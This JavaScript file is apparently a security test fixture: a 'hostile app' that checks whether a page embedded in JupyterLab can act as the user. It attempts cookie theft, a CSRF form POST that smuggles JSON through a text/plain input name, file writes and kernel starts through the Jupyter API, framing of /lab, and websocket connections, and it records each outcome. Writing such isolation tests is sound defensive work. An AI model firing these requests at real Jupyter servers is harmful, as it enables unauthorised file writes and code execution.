// The hostile app: tries, as an attacker's page would, to act as the user on the Jupyter
// server of the Lab that frames it, and writes every outcome into #results:
// [{target, attack, outcome, detail}], outcome "succeeded" (it got in), "blocked" or
// "sent" (the request left but its answer is opaque: the server side must show it failed).
// Targets: its own origin and the other loopback name of the same port (the Lab's, when
// the app is on the apps origin), plus ?lab=<origin>.
(async () => {
  const results = [];
  const out = document.getElementById('results');
  const record = (target, attack, outcome, detail) => {
    results.push({ target, attack, outcome, detail: String(detail).slice(0, 300) });
    out.textContent = JSON.stringify(results, null, 1);
  };
  const wait = ms => new Promise(resolve => setTimeout(resolve, ms));
  const here = location.origin;
  const other = here.includes('//localhost')
    ? here.replace('//localhost', '//127.0.0.1')
    : here.replace(/\/\/127\.0\.0\.1|\/\/\[::1\]/, '//localhost');
  const targets = [...new Set([new URLSearchParams(location.search).get('lab'), other, here])]
    .filter(Boolean);

  const cookies = document.cookie;
  record(here, 'read-cookie', /(^|;\s*)(_xsrf|username-|remoteapp-)/.test(cookies) ? 'succeeded' : 'blocked', cookies || '(none)');
  const xsrf = (cookies.match(/(?:^|;\s*)_xsrf=([^;]*)/) || [])[1] || '';
  try {
    const seen = await (await fetch('echo.cgi', { credentials: 'include' })).text();
    const leaked = /remoteapp-|_xsrf|username-/.test(seen.split('\n')[0]);
    record(here, 'credentials-reaching-app', leaked ? 'succeeded' : 'blocked', seen);
  } catch (e) {
    record(here, 'credentials-reaching-app', 'blocked', e);
  }

  const attempt = async (target, attack, run) => {
    try {
      await run();
    } catch (e) {
      record(target, attack, 'blocked', e);
    }
  };
  const form = target =>
    new Promise(resolve => {
      const name = 'sink' + Math.random().toString(36).slice(2);
      const sink = document.createElement('iframe');
      sink.name = name;
      sink.style.width = sink.style.height = '10px';
      document.body.appendChild(sink);
      const f = document.createElement('form');
      f.method = 'POST';
      f.enctype = 'text/plain'; // body: {"type":"file","ext":".txt","x":"="} is JSON
      f.action = target + '/api/contents';
      f.target = name;
      const input = document.createElement('input');
      input.name = '{"type":"file","ext":".txt","x":"';
      input.value = '"}';
      f.appendChild(input);
      document.body.appendChild(f);
      const finish = how => {
        let text = null;
        try {
          text = sink.contentDocument ? sink.contentDocument.body.textContent : null;
        } catch (e) {
          text = null;
        }
        const ok = text !== null && text.includes('"type"');
        record(target, 'form-post-file', ok ? 'succeeded' : 'sent', text === null ? how + ', answer not readable' : text.slice(0, 200));
        resolve();
      };
      const timer = setTimeout(() => finish('no load event'), 5000);
      sink.onload = () => {
        clearTimeout(timer);
        finish('loaded');
      };
      try {
        f.submit();
      } catch (e) {
        clearTimeout(timer);
        record(target, 'form-post-file', 'blocked', e);
        resolve();
      }
    });
  const frame = target =>
    new Promise(resolve => {
      const f = document.createElement('iframe');
      f.src = target + '/lab';
      f.style.width = f.style.height = '10px';
      document.body.appendChild(f);
      const finish = how => {
        let text = null;
        try {
          text = f.contentDocument && f.contentDocument.documentElement ? f.contentDocument.documentElement.innerHTML : null;
        } catch (e) {
          text = null;
        }
        const ok = text !== null && /jupyter-config-data|JupyterLab/.test(text);
        record(target, 'frame-lab', ok ? 'succeeded' : 'blocked', text === null ? how + ', not readable' : text.slice(0, 200));
        resolve();
      };
      const timer = setTimeout(() => finish('timeout'), 8000);
      f.onload = () => {
        clearTimeout(timer);
        setTimeout(() => finish('loaded'), 300);
      };
    });
  const socket = (target, path) =>
    new Promise(resolve => {
      const attack = 'websocket ' + path.replace(/[0-9a-f-]{36}/, '<id>');
      let ws;
      try {
        ws = new WebSocket(target.replace(/^http/, 'ws') + path);
      } catch (e) {
        record(target, attack, 'blocked', e);
        resolve();
        return;
      }
      const timer = setTimeout(() => {
        record(target, attack, 'blocked', 'no answer');
        resolve();
      }, 5000);
      ws.onopen = () => {
        clearTimeout(timer);
        record(target, attack, 'succeeded', 'open');
        ws.close();
        resolve();
      };
      ws.onerror = () => {
        clearTimeout(timer);
        record(target, attack, 'blocked', 'error');
        resolve();
      };
    });

  for (const target of targets) {
    const json = { 'Content-Type': 'application/json', 'X-XSRFToken': xsrf };
    await attempt(target, 'fetch-read-contents', async () => {
      const r = await fetch(target + '/api/contents', { credentials: 'include' });
      const body = await r.text();
      record(target, 'fetch-read-contents', r.ok && body.includes('"content"') ? 'succeeded' : 'blocked', r.status + ' ' + body.slice(0, 100));
    });
    await attempt(target, 'fetch-put-file', async () => {
      const r = await fetch(target + '/api/contents/hostile-put.txt', {
        method: 'PUT',
        credentials: 'include',
        headers: json,
        body: JSON.stringify({ type: 'file', format: 'text', content: 'pwned' })
      });
      record(target, 'fetch-put-file', r.ok ? 'succeeded' : 'blocked', r.status);
    });
    await attempt(target, 'no-cors-post-file', async () => {
      const r = await fetch(target + '/api/contents', {
        method: 'POST',
        mode: 'no-cors',
        credentials: 'include',
        headers: { 'Content-Type': 'text/plain' },
        body: JSON.stringify({ type: 'file', ext: '.txt' })
      });
      record(target, 'no-cors-post-file', r.type === 'opaque' ? 'sent' : r.ok ? 'succeeded' : 'blocked', r.type + ' ' + r.status);
    });
    let kernel = '00000000-0000-4000-8000-000000000000';
    await attempt(target, 'fetch-start-kernel', async () => {
      const r = await fetch(target + '/api/kernels', { method: 'POST', credentials: 'include', headers: json, body: '{}' });
      const body = await r.text();
      if (r.ok) {
        kernel = JSON.parse(body).id;
      }
      record(target, 'fetch-start-kernel', r.ok ? 'succeeded' : 'blocked', r.status + ' ' + body.slice(0, 100));
    });
    await attempt(target, 'no-cors-start-kernel', async () => {
      const r = await fetch(target + '/api/kernels', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: '{}' });
      record(target, 'no-cors-start-kernel', r.type === 'opaque' ? 'sent' : r.ok ? 'succeeded' : 'blocked', r.type + ' ' + r.status);
    });
    await form(target);
    await frame(target);
    await socket(target, '/api/events/subscribe');
    await socket(target, '/api/kernels/' + kernel + '/channels');
  }
  await wait(100);
  document.getElementById('done').textContent = 'done';
})();
